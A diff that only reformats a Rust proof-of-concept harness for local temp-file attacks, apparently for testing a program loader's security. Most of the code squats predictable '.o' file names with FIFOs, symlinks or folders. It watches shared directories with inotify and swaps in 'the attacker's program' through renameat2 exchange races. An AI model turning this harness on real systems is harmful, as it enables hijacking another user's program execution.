@@ -38,7 +38,10 @@ fn main() {
 }
 
 fn names(folders: &[PathBuf]) -> Vec<PathBuf> {
-    folders.iter().flat_map(|folder| NUMBERS.map(move |number| folder.join(format!(".o{number}")))).collect()
+    folders
+        .iter()
+        .flat_map(|folder| NUMBERS.map(move |number| folder.join(format!(".o{number}"))))
+        .collect()
 }
 
 fn write(path: &Path, program: &str) {
@@ -48,7 +51,9 @@ fn write(path: &Path, program: &str) {
 
 /// Properties of a file that change if somebody else uses it.
 fn state(path: &Path) -> Option<(u64, u32, u32, u64)> {
-    fs::symlink_metadata(path).ok().map(|about| (about.ino(), about.mode(), about.uid(), about.size()))
+    fs::symlink_metadata(path)
+        .ok()
+        .map(|about| (about.ino(), about.mode(), about.uid(), about.size()))
 }
 
 fn wait_for_the_end() {
@@ -62,7 +67,9 @@ fn squat(kind: &str, folders: &[PathBuf], program: &str) {
     let mut open = Vec::new();
     for name in &names {
         match kind {
-            "fifo" | "silent-fifo" => mkfifo(name, Mode::from_bits_truncate(0o666)).expect("a name is free"),
+            "fifo" | "silent-fifo" => {
+                mkfifo(name, Mode::from_bits_truncate(0o666)).expect("a name is free")
+            }
             "link" => symlink(folders[0].join("target"), name).expect("a name is free"),
             "folder" => fs::create_dir(name).expect("a name is free"),
             _ => write(name, program),
@@ -73,8 +80,11 @@ fn squat(kind: &str, folders: &[PathBuf], program: &str) {
         }
         if kind == "fifo" {
             fs::set_permissions(name, fs::Permissions::from_mode(0o666)).expect("it is his");
-            let options =
-                fs::OpenOptions::new().read(true).write(true).custom_flags(libc::O_NONBLOCK).open(name);
+            let options = fs::OpenOptions::new()
+                .read(true)
+                .write(true)
+                .custom_flags(libc::O_NONBLOCK)
+                .open(name);
             open.push(options.expect("it is his"));
         }
     }
@@ -82,7 +92,9 @@ fn squat(kind: &str, folders: &[PathBuf], program: &str) {
     // If one of them is made executable, it becomes the attacker's program.
     let watch = Inotify::init(InitFlags::IN_CLOEXEC).expect("the kernel has it");
     for folder in folders {
-        watch.add_watch(folder, AddWatchFlags::IN_ATTRIB).expect("the folder is open to him");
+        watch
+            .add_watch(folder, AddWatchFlags::IN_ATTRIB)
+            .expect("the folder is open to him");
         write(&folder.join(".program"), program);
     }
     let (folders, text) = (folders.to_vec(), program.to_owned());
@@ -102,7 +114,11 @@ fn squat(kind: &str, folders: &[PathBuf], program: &str) {
     wait_for_the_end();
     for (name, before) in names.iter().zip(&before) {
         if state(name) != *before {
-            println!("{} was changed: {before:?}, {:?}", name.display(), state(name));
+            println!(
+                "{} was changed: {before:?}, {:?}",
+                name.display(),
+                state(name)
+            );
         }
     }
     for mut fifo in open {
@@ -121,15 +137,22 @@ fn exchange(folders: &[PathBuf], program: &str) {
         let his = folder.join("his");
         fs::create_dir(&his).expect("the name is free");
         write(&his.join("l"), program);
-        let flags = AddWatchFlags::IN_CREATE | AddWatchFlags::IN_MOVED_TO | AddWatchFlags::IN_ATTRIB;
+        let flags =
+            AddWatchFlags::IN_CREATE | AddWatchFlags::IN_MOVED_TO | AddWatchFlags::IN_ATTRIB;
         watch.add_watch(folder, flags).expect("it is his");
     }
-    let (watched, seen) = (folders.to_vec(), std::sync::Arc::new(AtomicBool::new(false)));
+    let (watched, seen) = (
+        folders.to_vec(),
+        std::sync::Arc::new(AtomicBool::new(false)),
+    );
     let noted = std::sync::Arc::clone(&seen);
     std::thread::spawn(move || {
         while let Ok(events) = watch.read_events() {
             for name in events.into_iter().filter_map(|event| event.name) {
-                for folder in watched.iter().filter(|_| name.to_string_lossy().starts_with(".o")) {
+                for folder in watched
+                    .iter()
+                    .filter(|_| name.to_string_lossy().starts_with(".o"))
+                {
                     noted.store(true, Ordering::Relaxed);
                     swap(&folder.join("his"), &folder.join(&name));
                 }
@@ -147,7 +170,9 @@ fn exchange(folders: &[PathBuf], program: &str) {
 /// the fourth is the directory behind the third, with the attacker's program wherever stage 0 could
 /// look for its own.
 fn flip(folders: &[PathBuf], program: &str) {
-    let [link, theirs, his, folder] = folders else { panic!("flip LINK THEIRS HIS FOLDER") };
+    let [link, theirs, his, folder] = folders else {
+        panic!("flip LINK THEIRS HIS FOLDER")
+    };
     for name in names(std::slice::from_ref(folder)) {
         fs::create_dir(&name).expect("a name is free");
         write(&name.join("l"), program);
@@ -170,6 +195,12 @@ fn swap(one: &Path, other: &Path) {
     let (one, other) = (c(one), c(other));
     // SAFETY: two C strings.
     unsafe {
-        libc::renameat2(libc::AT_FDCWD, one.as_ptr(), libc::AT_FDCWD, other.as_ptr(), libc::RENAME_EXCHANGE);
+        libc::renameat2(
+            libc::AT_FDCWD,
+            one.as_ptr(),
+            libc::AT_FDCWD,
+            other.as_ptr(),
+            libc::RENAME_EXCHANGE,
+        );
     }
 }
